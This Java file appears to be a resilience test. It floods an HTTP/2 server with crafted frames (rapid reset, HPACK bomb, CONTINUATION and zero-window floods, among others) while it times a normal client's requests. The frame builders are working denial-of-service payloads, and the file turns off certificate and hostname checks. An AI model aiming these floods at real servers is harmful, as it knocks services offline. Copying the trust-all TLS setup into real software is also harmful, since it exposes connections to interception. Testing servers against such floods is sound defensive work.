import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentSkipListMap;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509ExtendedTrustManager;

/**
 * Floods an HTTP/2 server by one connection after the other, while a good client on a connection of its own asks 50 times a second: prints how the
 * bad connections ended, and how long the good client's requests took, alone and beside the flood. Fails if one of them failed, or took 50 ms more
 * and twice as long at the 99th percentile, and if there was no flood.
 *
 * <p>Arguments: base URI, kind of flood (or {@code all}), seconds.
 */
class Http2Floods {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int RATE = 50;
    private static final int PER_WRITE = 100;
    private static final long PAUSE_MILLIS = 100;

    private final URI uri;
    private final SSLContext tls;
    private final AtomicLong frames = new AtomicLong();
    private final AtomicLong connections = new AtomicLong();
    private final Map<String, Integer> ends = new ConcurrentSkipListMap<>();
    private volatile boolean over;

    Http2Floods(URI uri, SSLContext tls) {
        this.uri = uri;
        this.tls = tls;
    }

    public static void main(String[] args) throws Exception {
        System.setProperty("jdk.internal.httpclient.disableHostnameVerification", "true");
        Http2Floods floods = new Http2Floods(URI.create(args[0]), trustAll());
        floods.good(3, null);
        long alone = floods.good(Integer.parseInt(args[2]), "alone");
        if (!floods.beside(args[1], Integer.parseInt(args[2]), alone)) {
            System.exit(1);
        }
    }

    private boolean beside(String kind, int seconds, long alone) throws Exception {
        Thread bad = new Thread(() -> flood(kind));
        bad.start();
        long p99 = good(seconds, "beside " + kind);
        over = true;
        bad.join(10_000);
        boolean flooded = frames.get() > 0 && ends.keySet().stream().noneMatch(end -> end.startsWith("failed: "));
        boolean fine = errors == 0 && flooded && p99 < Math.max(2 * alone, alone + 50_000_000);
        System.out.printf(
                "%s: %d frames on %d connections, which ended by %s: %s%n",
                kind, frames.get(), connections.get(), new TreeMap<>(ends), fine ? "ok" : "FAILED");
        return fine;
    }

    private long errors;

    /** The 99th percentile in nanoseconds. */
    private long good(int seconds, String what) throws Exception {
        HttpClient client = HttpClient.newBuilder()
                .sslContext(tls)
                .version(HttpClient.Version.HTTP_2)
                .build();
        HttpRequest request = HttpRequest.newBuilder(uri.resolve("headers"))
                .timeout(Duration.ofSeconds(10))
                .build();
        long[] times = new long[seconds * RATE];
        errors = 0;
        long start = System.nanoTime();
        for (int i = 0; i < times.length; i++) {
            long due = start + i * 1_000_000_000L / RATE;
            while (System.nanoTime() < due) {
                Thread.sleep(1);
            }
            long asked = System.nanoTime();
            try {
                HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
                errors += response.statusCode() == 200 && response.version() == HttpClient.Version.HTTP_2 ? 0 : 1;
            } catch (IOException e) {
                errors++;
            }
            times[i] = System.nanoTime() - asked;
        }
        Arrays.sort(times);
        long p99 = times[times.length * 99 / 100];
        if (what != null) {
            System.out.printf(
                    "  good client %s: %d requests, %d errors, p50 %.1f ms, p99 %.1f ms%n",
                    what, times.length, errors, times[times.length / 2] / 1e6, p99 / 1e6);
        }
        return p99;
    }

    private void flood(String kind) {
        while (!over) {
            try (Socket socket = connect()) {
                connections.incrementAndGet();
                Thread reader = new Thread(() -> read(socket));
                reader.start();
                try {
                    send(kind, socket.getOutputStream());
                } catch (IOException e) {
                    // it was ended, as it should be
                }
                reader.join(5000);
            } catch (IOException | InterruptedException e) {
                ends.merge("failed: " + e.getMessage(), 1, Integer::sum);
            }
            try {
                Thread.sleep(PAUSE_MILLIS);
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private SSLSocket connect() throws IOException {
        SSLSocket socket = (SSLSocket) tls.getSocketFactory().createSocket(uri.getHost(), uri.getPort());
        var parameters = socket.getSSLParameters();
        parameters.setApplicationProtocols(new String[] {"h2"});
        socket.setSSLParameters(parameters);
        socket.setTcpNoDelay(true);
        socket.setSoTimeout(5000);
        socket.startHandshake();
        if (!socket.getApplicationProtocol().equals("h2")) {
            throw new IOException("the proxy chose '" + socket.getApplicationProtocol() + "' in place of h2");
        }
        return socket;
    }

    private void send(String kind, OutputStream out) throws IOException {
        out.write(PREFACE);
        boolean stall = kind.equals("zero-window");
        out.write(frame(4, 0, 0, stall ? new byte[] {0, 4, 0, 0, 0, 0} : new byte[0]));
        byte[] get = block("GET", "/headers");
        byte[] fixed = switch (kind) {
            case "ping" -> frame(6, 0, 0, new byte[8]);
            case "settings" -> frame(4, 0, 0, new byte[0]);
            case "empty-data" -> frame(0, 0, 1, new byte[0]);
            case "priority" -> frame(2, 0, 1, new byte[5]);
            case "window-update" -> frame(8, 0, 0, new byte[] {0, 0, 0, 1});
            case "continuation" -> frame(9, 0, 3, new byte[0]);
            default -> new byte[0];
        };
        out.write(frame(1, 4, 1, block("POST", "/upload")));
        if (kind.equals("continuation")) {
            out.write(frame(1, 0, 3, get));
        }
        int stream = 5;
        while (!over) {
            ByteArrayOutputStream many = new ByteArrayOutputStream();
            for (int i = 0; i < PER_WRITE; i++, stream += 2) {
                switch (kind) {
                    case "rapid-reset" -> {
                        many.write(frame(1, 5, stream, get));
                        many.write(frame(3, 0, stream, new byte[] {0, 0, 0, 8}));
                    }
                    case "made-you-reset" -> {
                        many.write(frame(1, 5, stream, get));
                        many.write(frame(8, 0, stream, new byte[4]));
                    }
                    case "streams" -> many.write(frame(1, 4, stream, block("POST", "/upload")));
                    case "zero-window" -> many.write(frame(1, 5, stream, block("GET", "/download/a?size=1000000")));
                    case "hpack-bomb" -> {
                        many.write(frame(1, 1, stream, bomb(get)));
                        many.write(frame(9, 4, stream, references(15_000)));
                    }
                    default -> many.write(fixed);
                }
                frames.incrementAndGet();
            }
            out.write(many.toByteArray());
            if (stall) {
                pause(1000);
                return;
            }
        }
    }

    private void pause(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /** A head that puts 4,000 bytes into the table. */
    private static byte[] bomb(byte[] head) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(head);
        block.writeBytes(new byte[] {0x40, 1, 'x', 127, (byte) (128 | (4000 - 127) & 127), (byte) ((4000 - 127) >> 7)});
        block.writeBytes("y".repeat(4000).getBytes(StandardCharsets.US_ASCII));
        return block.toByteArray();
    }

    private static byte[] references(int count) {
        byte[] references = new byte[count];
        Arrays.fill(references, (byte) (0x80 | 62));
        return references;
    }

    private byte[] block(String method, String path) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        String[] fields = {":method", method, ":scheme", "https", ":path", path, ":authority", uri.getAuthority()};
        for (int i = 0; i < fields.length; i++) {
            if (i % 2 == 0) {
                block.write(0);
            }
            block.write(fields[i].length());
            block.writeBytes(fields[i].getBytes(StandardCharsets.US_ASCII));
        }
        return block.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    /** Reads until the end, and notes how it came. */
    private void read(Socket socket) {
        String end = "a close";
        try {
            DataInputStream in = new DataInputStream(socket.getInputStream());
            while (true) {
                int lengthAndType = in.readInt();
                in.readByte();
                in.readInt();
                byte[] payload = new byte[lengthAndType >>> 8];
                in.readFully(payload);
                if ((lengthAndType & 255) == 7) {
                    end = "GOAWAY " + ByteBuffer.wrap(payload).getInt(4);
                    break;
                }
            }
        } catch (IOException e) {
            end = over ? "the end of the measurement" : end;
        }
        ends.merge(end, 1, Integer::sum);
    }

    private static SSLContext trustAll() throws Exception {
        TrustManager all = new X509ExtendedTrustManager() {
            @Override
            public void checkClientTrusted(X509Certificate[] chain, String type, Socket socket) {}

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String type, Socket socket) {}

            @Override
            public void checkClientTrusted(X509Certificate[] chain, String type, javax.net.ssl.SSLEngine engine) {}

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String type, javax.net.ssl.SSLEngine engine) {}

            @Override
            public void checkClientTrusted(X509Certificate[] chain, String type) {}

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String type) {}

            @Override
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        SSLContext context = SSLContext.getInstance("TLS");
        context.init(null, new TrustManager[] {all}, new SecureRandom());
        return context;
    }
}
